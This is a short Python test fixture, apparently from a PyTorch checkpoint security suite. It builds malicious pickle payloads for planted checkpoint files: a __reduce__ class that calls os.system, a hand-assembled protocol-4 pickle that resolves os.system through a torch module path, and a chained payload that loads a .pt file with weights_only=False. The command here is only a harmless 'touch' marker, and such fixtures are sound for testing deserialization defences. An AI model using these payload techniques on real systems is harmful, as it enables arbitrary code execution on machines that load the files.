"""Checkpoint files an attacker with write access to a shared folder would plant: each runs a
command (``touch <marker>``) if it is ever unpickled."""

import os


class Planted:
    """What an attacker would put in a shared checkpoint folder: unpickling it runs a command."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def dotted_name_payload(marker) -> bytes:
    """Protocol 4 resolves a dotted name: os.system looked up in a checkpoint module importing os."""

    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode() + b"\x94"

    module, name, command = "torch.distributed.checkpoint.filesystem", "os.system", f"touch {marker}"
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + text(command) + b"\x85R."


class UnpicklesAFile:
    """A function of the checkpoint package that loads a planted .pt with weights_only=False."""

    def __init__(self, planted, out):
        self.planted, self.out = str(planted), str(out)

    def __reduce__(self):
        from torch.distributed.checkpoint.format_utils import torch_save_to_dcp

        return (torch_save_to_dcp, (self.planted, self.out))
